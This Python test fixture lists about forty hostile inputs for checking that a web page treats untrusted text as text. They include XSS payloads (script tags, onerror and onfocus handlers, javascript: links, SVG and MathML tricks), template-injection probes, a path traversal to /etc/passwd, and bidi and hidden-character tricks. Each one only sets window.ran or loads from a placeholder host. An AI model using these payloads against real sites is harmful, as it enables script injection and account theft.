"""Texts of strangers that would do something if a page took them for more than texts.

Each one that can run sets ``window.ran``, or asks for an address below ``http://stranger.invalid/``.
"""

from __future__ import annotations

RUN = "window.ran=1"
AWAY = "http://stranger.invalid/x"

PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f"<script src={AWAY}></script>",
    "closes ours": f"</script><script>{RUN}</script>",
    "closes the style": f"</style><script>{RUN}</script>",
    "closes the title": f"</title></textarea></select></pre><script>{RUN}</script>",
    "event handler": f"<img src=x onerror={RUN}>",
    "image": f"<img src={AWAY}>",
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
    "svg script": f"<svg><script href={AWAY}></script><foreignObject><body onload={RUN}></foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "link": f"<a href=javascript:{RUN} autofocus onfocus={RUN}>here</a>",
    "markdown link": f"[here](javascript:{RUN})",
    "iframe": f"<iframe srcdoc='<script>parent.{RUN}</script>' src={AWAY}></iframe>",
    "object": f"<object data={AWAY}></object><embed src={AWAY}>",
    "base": f"<base href={AWAY}>",
    "refresh": f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    "form": f"<form action={AWAY}><input autofocus onfocus={RUN}></form>",
    "style": f"<style>@import '{AWAY}'; body {{ display: none }}</style>",
    "style attribute": f"<p style='background:url({AWAY})'>x</p>",
    "link element": f"<link rel=stylesheet href={AWAY}><link rel=prefetch href={AWAY}>",
    "data address": f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "comment": f"<!-- --><script>{RUN}</script><!--",
    "open comment": "<!-- and everything after it is gone",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "double quote": f'" autofocus onfocus="{RUN}" x="',
    "single quote": f"' autofocus onfocus='{RUN}' x='",
    "no quote": f"x onfocus={RUN} autofocus",
    "backtick": f"`-{RUN}-`${{{RUN}}}",
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# gone #}",
    "other templates": "${7*7} <%= 7*7 %> #{7*7} {{constructor.constructor('" + RUN + "')()}}",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "utf-7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "null bytes": f"<scr\x00ipt>{RUN}</scr\x00ipt>\x00",
    "escape sequences": "\x1b[2J\x1b]0;mine\x07\x9b1m\x1b]8;;http://stranger.invalid/\x07here\x1b]8;;\x07",
    "turned around": "safe \u202egnp.exe\u202c \u2066\u2067inside\u2069 \u200eleft\u200f right \u061c",
    "hidden": "vis\u200bible\u2060\ufeff \U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "line ends": "one\rtwo\u2028three\u2029four\x85five",
    "half a character": "\ud800 and \udfff",
    "path": f"../../etc/passwd%00<img src=x onerror={RUN}>.json",
    "long": "A" * 100_000,
    "deep": "<b>" * 500,
    "clobbering": "<img id=main name=body><form id=news name=getElementById>",
}
"""By what each one tries."""


def safe_for_store(text: str) -> str:
    """The text as the store can hold it: SQLite knows no half of a character."""
    return text.encode("utf-8", "replace").decode()
